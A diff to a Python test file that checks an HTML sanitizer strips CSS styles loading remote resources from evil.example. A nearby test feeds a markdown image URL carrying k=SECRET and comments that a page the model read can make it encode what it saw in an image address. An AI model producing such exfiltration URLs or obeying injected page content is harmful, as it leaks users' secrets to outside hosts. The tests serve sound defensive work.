@@ -142,6 +142,15 @@ def test_the_views_allow_list_keeps_the_inspectors_own_shapes_and_tabs() -> None
     assert [s.get("style") for s in tree.iter("span")] == [None, "width:12.0%"]
 
 
+def test_a_style_that_loads_anything_is_dropped_from_the_views() -> None:
+    view = "".join(f'<span class="jdi-x" style="background:{css}">t</span>' for css in (
+        "url(https://evil.example/a)", "image-set('https://evil.example/b' 1x)",
+        "-webkit-image-set('https://evil.example/c' 1x)", "cross-fade(url(x), url(y), 50%)",
+        "#eee"))
+    assert [s.get("style") for s in _tree(clean_view_html(view)).iter("span")] == [
+        None, None, None, None, "background:#eee"]
+
+
 def test_an_image_from_another_server_is_a_link_to_it_never_loaded_by_the_page() -> None:
     # a page the model read can have it put what it saw into an image address: nothing loads
     shown = markdown_html("![chart](https://evil.example/c.png?k=SECRET) "
